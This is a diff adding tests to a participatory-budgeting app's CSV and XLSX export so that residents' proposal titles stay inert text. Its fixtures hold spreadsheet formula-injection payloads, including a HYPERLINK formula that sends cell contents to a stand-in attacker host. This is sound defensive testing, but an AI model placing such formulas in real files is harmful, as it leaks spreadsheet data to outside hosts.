@@ -73,6 +73,38 @@ def test_xlsx_round_trips_through_openpyxl(results, tmp_path):
     ]
 
 
+FORMULAS = {
+    "r1-1": '=HYPERLINK("http://evil.example/?"&A1,"행복마을")',
+    "r1-2": "+1+1",
+    "r1-3": "-2+3",
+    "r1-4": "@SUM(1,2)",
+}
+
+
+def test_a_title_written_as_a_formula_stays_text_in_the_csv(results, tmp_path):
+    """Titles are what residents typed; a spreadsheet ran '=HYPERLINK(...)' as a formula."""
+    path = tmp_path / "results.csv"
+    report.write_csv(results, path, CATALOG, "ko", FORMULAS)
+    lines = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))
+    rows = [dict(zip(report.COLUMNS, line, strict=True)) for line in lines[1:]]
+    for row in rows:
+        assert row["title"] == "'" + FORMULAS[row["proposal"]]
+        assert not row["combined"].startswith("'")  # numbers are untouched
+    assert report.inert("골목 벽화") == "골목 벽화" and report.inert(-2) == -2
+
+
+def test_a_title_written_as_a_formula_stays_text_in_the_xlsx(results, tmp_path):
+    path = tmp_path / "results.xlsx"
+    report.write_xlsx(results, path, CATALOG, "ko", FORMULAS)
+    sheet = load_workbook(path)["결과"]
+    column = report.COLUMNS.index("title") + 1
+    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+    assert [c.value for c in cells] == [FORMULAS[p] for p in results.ranking]  # as typed
+    assert {c.data_type for c in cells} == {"s"}  # text, never 'f' (a formula)
+    budget = sheet.cell(row=2, column=report.COLUMNS.index("budget") + 1)
+    assert budget.data_type == "n"
+
+
 @pytest.mark.parametrize("locale", ["ko", "en"])
 def test_xlsx_rules_sheet_reads_as_text_for_people(results, tmp_path, locale):
     """The rules sheet listed the ledger payload as it is: English keys, Unix times for the
